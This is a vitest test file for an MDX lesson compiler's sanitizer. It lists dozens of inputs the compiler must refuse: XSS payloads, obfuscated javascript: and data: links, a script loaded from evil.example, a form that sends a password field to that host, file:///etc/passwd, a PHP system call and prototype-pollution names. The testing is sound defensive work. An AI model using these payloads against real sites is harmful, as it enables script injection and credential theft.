import { expect, test } from 'vitest';
import type { Json } from '../catalog';
import type { Rule } from '../problems';
import { compileLesson } from './compile';

const compile = (source: string) => compileLesson(source, { locale: 'en', pictures: {}, items: [] });

type Refused = [name: string, source: string, rule: Rule, place: `${number}:${number}`];

const REFUSED: Array<Refused> = [
  // Code
  ['an import', 'import fs from "node:fs"\n\nText', 'mdx-import', '1:1'],
  ['an import further down', 'Text\n\nimport fs from "fs"', 'mdx-import', '3:1'],
  ['a broken import', 'import {a from', 'mdx-import', '1:11'],
  ['an export', 'export const a = process.exit()', 'mdx-import', '1:1'],
  ['a default export', 'Text\n\nexport default () => null', 'mdx-import', '3:1'],
  ['an expression in text', 'a {1 + 1} b', 'mdx-expression', '1:3'],
  ['an expression as a block', '{globalThis.process.exit()}', 'mdx-expression', '1:1'],
  ['a comment expression', 'x\n\n{/* hidden */}', 'mdx-expression', '3:1'],
  ['an open brace', 'a { b', 'mdx-expression', '1:6'],
  ['code as an attribute', '<Callout kind={alert(1)}>\n\nx\n\n</Callout>', 'mdx-attribute-code', '1:10'],
  ['a string in braces', '<Callout kind={"note"}>\n\nx\n\n</Callout>', 'mdx-attribute-code', '1:10'],
  [
    'a template as an attribute',
    '<Callout kind="note" title={`a${1}`}>\n\nx\n\n</Callout>',
    'mdx-attribute-code',
    '1:22',
  ],
  ['a spread', '<Callout kind="note" {...{onClick: alert}}>\n\nx\n\n</Callout>', 'mdx-spread', '1:22'],
  ['JSX within an attribute', '<Callout kind="note" title={<b/>}>\n\nx\n\n</Callout>', 'mdx-attribute-code', '1:22'],
  ['JSX as an attribute without braces', '<Callout kind="note" title=<b/>>\n\nx\n\n</Callout>', 'mdx-syntax', '1:28'],
  // HTML
  ['a script', '<script>alert(1)</script>', 'mdx-component-unknown', '1:1'],
  ['a script with a source', '<script src="https://evil.example/x.js" />', 'mdx-component-unknown', '1:1'],
  ['a script in capitals', '<SCRIPT>alert(1)</SCRIPT>', 'mdx-component-unknown', '1:1'],
  ['a picture that runs', '<img src="x" onerror="alert(1)" />', 'mdx-component-unknown', '1:1'],
  ['an SVG that runs', 'Text <svg onload="alert(1)" /> text', 'mdx-component-unknown', '1:6'],
  ['a style', '<style>body</style>', 'mdx-component-unknown', '1:1'],
  ['a style with rules', '<style>a{b:c}</style>', 'mdx-expression', '1:11'],
  ['a frame', '<iframe src="https://evil.example" />', 'mdx-component-unknown', '1:1'],
  ['an object', '<object data="x" />', 'mdx-component-unknown', '1:1'],
  ['a form', '<form action="https://evil.example"><input name="password" /></form>', 'mdx-component-unknown', '1:1'],
  ['a base address', '<base href="https://evil.example/" />', 'mdx-component-unknown', '1:1'],
  [
    'a meta refresh',
    '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
    'mdx-component-unknown',
    '1:1',
  ],
  ['a link element', '<a href="javascript:alert(1)">x</a>', 'mdx-component-unknown', '1:1'],
  ['a plain division', '<div>x</div>', 'mdx-component-unknown', '1:1'],
  ['an HTML comment', 'Text\n\n<!-- hidden -->', 'mdx-html', '3:2'],
  ['a comment within text', 'a <!-- b --> c', 'mdx-html', '1:4'],
  ['a doctype', '<!DOCTYPE html>', 'mdx-html', '1:2'],
  ['a processing instruction', '<?php system("id") ?>', 'mdx-html', '1:2'],
  ['a CDATA section', '<![CDATA[x]]>', 'mdx-html', '1:2'],
  ['a fragment', '<>text</>', 'mdx-component-unknown', '1:1'],
  ['a member name', '<Callout.constructor />', 'mdx-component-unknown', '1:1'],
  ['a namespaced name', '<svg:script />', 'mdx-component-unknown', '1:1'],
  // Names of the language itself
  ['the prototype as a component', '<__proto__ />', 'mdx-component-unknown', '1:1'],
  ['the constructor as a component', '<constructor>x</constructor>', 'mdx-component-unknown', '1:1'],
  ['toString as a component', '<toString />', 'mdx-component-unknown', '1:1'],
  [
    'the prototype as an attribute',
    '<Callout kind="note" __proto__="x">\n\ny\n\n</Callout>',
    'mdx-attribute-unknown',
    '1:22',
  ],
  [
    'the constructor as an attribute',
    '<Callout kind="note" constructor="x">\n\ny\n\n</Callout>',
    'mdx-attribute-unknown',
    '1:22',
  ],
  [
    'the constructor as a player',
    '<Embed provider="constructor" id="aaaaaaaaaaa" title="x" />',
    'mdx-attribute-choice',
    '1:8',
  ],
  [
    'an event on an allowed component',
    '<Callout kind="note" onClick="alert(1)">\n\ny\n\n</Callout>',
    'mdx-attribute-unknown',
    '1:22',
  ],
  [
    'inner HTML on an allowed component',
    '<KeyIdea dangerouslySetInnerHTML="x">\n\ny\n\n</KeyIdea>',
    'mdx-attribute-none',
    '1:10',
  ],
  [
    'a style on an allowed component',
    '<Callout kind="note" style="position:fixed">\n\ny\n\n</Callout>',
    'mdx-attribute-unknown',
    '1:22',
  ],
  // Addresses
  ['a javascript link', '[a](javascript:alert(1))', 'mdx-link', '1:1'],
  ['in mixed case', '[a](JaVaScRiPt:alert(1))', 'mdx-link', '1:1'],
  ['with an entity', '[a](javascript&colon;alert(1))', 'mdx-link', '1:1'],
  ['with a numbered entity', '[a](&#106;avascript:alert(1))', 'mdx-link', '1:1'],
  ['with a line feed as an entity', '[a](java&#x0A;script:alert(1))', 'mdx-link', '1:1'],
  ['with a tab', '[a](<java\tscript:alert(1)>)', 'mdx-link', '1:1'],
  ['with a leading control character', '[a](&#1;javascript:alert(1))', 'mdx-link', '1:1'],
  ['with a zero-width character', '[a](java\u200bscript:alert(1))', 'mdx-link', '1:1'],
  ['with a leading space', '[a](< javascript:alert(1)>)', 'mdx-link', '1:1'],
  ['a data link', '[a](data:text/html,<script>alert(1)</script>)', 'mdx-link', '1:1'],
  ['an encoded data link', '[a](data:text/html;base64,PHNjcmlwdD4=)', 'mdx-link', '1:1'],
  ['a vbscript link', '[a](vbscript:msgbox(1))', 'mdx-link', '1:1'],
  ['a file link', '[a](file:///etc/passwd)', 'mdx-link', '1:1'],
  ['a plain http link', '[a](http://example.com)', 'mdx-link', '1:1'],
  ['another host by two slashes', '[a](//evil.example)', 'mdx-link', '1:1'],
  ['by slash and backslash', '[a](/\\evil.example)', 'mdx-link', '1:1'],
  ['by backslashes', '[a](\\\\\\\\evil.example)', 'mdx-link', '1:1'],
  ['with a user name in front', '[a](https://pericia.example@evil.example)', 'mdx-link', '1:1'],
  ['https without slashes', '[a](https:evil.example)', 'mdx-link', '1:1'],
  ['a relative link', '[a](../../secret)', 'mdx-link', '1:1'],
  ['by reference', '[a][b]\n\n[b]: javascript:alert(1)', 'mdx-link', '3:1'],
  ['within a table', '| a |\n|---|\n| [x](javascript:alert(1)) |', 'mdx-link', '3:3'],
  ['within a footnote', 'a[^1]\n\n[^1]: [x](javascript:alert(1))', 'mdx-link', '3:7'],
  ['an autolink', '<https://example.com>', 'mdx-autolink', '1:8'],
  ['a mail autolink', 'a <ana@example.com> b', 'mdx-autolink', '1:7'],
  ['a bare address without https', 'See www.example.com', 'mdx-link', '1:5'],
  ['a Markdown picture', '![x](https://evil.example/pixel.gif)', 'mdx-image', '1:1'],
  ['a picture by reference', '![x][y]\n\n[y]: https://evil.example/p.gif', 'mdx-image', '1:1'],
  ['a video from data', '<Video src="data:video/mp4,x" title="x">\n\nx\n\n</Video>', 'mdx-attribute-address', '1:8'],
  [
    'a poster by javascript',
    '<Video src="/a.mp4" title="x" poster="javascript:1">\n\nx\n\n</Video>',
    'mdx-attribute-address',
    '1:31',
  ],
  ['a figure outside of the folder', '<Figure src="./../../secret.svg" alt="x" />', 'mdx-attribute-picture', '1:9'],
  ['a figure from elsewhere', '<Figure src="https://evil.example/x.svg" alt="x" />', 'mdx-attribute-picture', '1:9'],
  [
    'an id that breaks out of its address',
    '<Embed provider="youtube" id="x/../../evi" title="x" />',
    'mdx-embed-id',
    '1:1',
  ],
  // Places
  [
    'a block component within a table',
    '| a |\n|---|\n| <Callout kind="note">x</Callout> |',
    'mdx-placement-block',
    '3:3',
  ],
  ['an unknown one within a table', '| a |\n|---|\n| <marquee>x</marquee> |', 'mdx-component-unknown', '3:3'],
  ['an expression within a table', '| a |\n|---|\n| {x} |', 'mdx-expression', '3:3'],
  ['a script within a list', '- a\n  - <script>x</script>', 'mdx-component-unknown', '2:5'],
  ['a script within a quotation', '> > <script>x</script>', 'mdx-component-unknown', '1:5'],
  ['a script within a heading', '## <script>x</script>', 'mdx-component-unknown', '1:4'],
  ['a script within a term', 'a <Term def="x"><script>y</script></Term>', 'mdx-component-unknown', '1:17'],
  ['a tab on its own', '<Tab title="x">\n\ny\n\n</Tab>', 'mdx-placement-parent', '1:1'],
  ['a component left open', '<Callout kind="note">\n\nx', 'mdx-tag-mismatch', '1:1'],
  ['one closed by another', '<Callout kind="note">\n\nx\n\n</KeyIdea>', 'mdx-tag-mismatch', '5:1'],
  ['attributes given twice', '<Callout kind="note" kind="tip">\n\nx\n\n</Callout>', 'mdx-attribute-repeated', '1:22'],
  // Weight
  ['too many bytes', 'word '.repeat(13_000), 'mdx-too-large', '1:1'],
  ['quotations in quotations', `${'> '.repeat(60)}x`, 'mdx-too-deep', '1:49'],
  [
    'lists in lists',
    Array.from({ length: 40 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
    'mdx-too-deep',
    '13:25',
  ],
  ['more parts than a lesson has', 'a `b` '.repeat(7_000), 'mdx-too-many-nodes', '1:1'],
];

test.each(REFUSED)('refuses %s and says where', (_, source, rule, place) => {
  const { tree, problems } = compile(source);
  expect(tree).toBeNull();
  expect(problems.map((found) => `${found.rule} ${found.line}:${found.column}`)).toContain(`${rule} ${place}`);
});

test('the table of attacks is long enough to mean something', () => {
  expect(REFUSED.length).toBeGreaterThanOrEqual(45);
});

const INERT: Array<[name: string, source: string, text: string]> = [
  ['a script in code', 'Write `<script>alert(1)</script>`.', '<script>alert(1)</script>'],
  ['a script in a code block', '```html\n<script>alert(1)</script>\n{process.exit()}\n```', '{process.exit()}'],
  ['an escaped brace', 'a \\{b} c', 'a {b} c'],
  ['an entity', '&lt;script&gt;', '<script>'],
  ['a less-than sign with space', '3 < 5', '3 < 5'],
  ['markup within an attribute', '<Callout kind="note" title="<script>{x}">\n\ny\n\n</Callout>', '<script>{x}'],
  ['a word that begins a line like code', 'important things are\nexported goods', 'important things are'],
  ['an unresolved reference', '[a][b] and ![c][d]', '[a][b] and ![c][d]'],
];

const ELEMENTS =
  /^(?:p|h[2-6]|em|strong|del|blockquote|br|hr|pre|code|ul|ol|li|table|thead|tbody|tr|th|td|a|input|sup|section|[A-Z]\w+)$/;

function tags(node: Json): Array<string> {
  if (typeof node === 'string') return [];
  const [tag, , ...children] = node;
  return [tag, ...children.flatMap(tags)];
}

test.each(INERT)('keeps %s as text', (_, source, text) => {
  const { tree, problems } = compile(source);
  expect(problems).toEqual([]);
  expect(JSON.stringify(tree)).toContain(JSON.stringify(text).slice(1, -1));
  for (const tag of tree!.flatMap(tags)) expect(tag).toMatch(ELEMENTS);
});
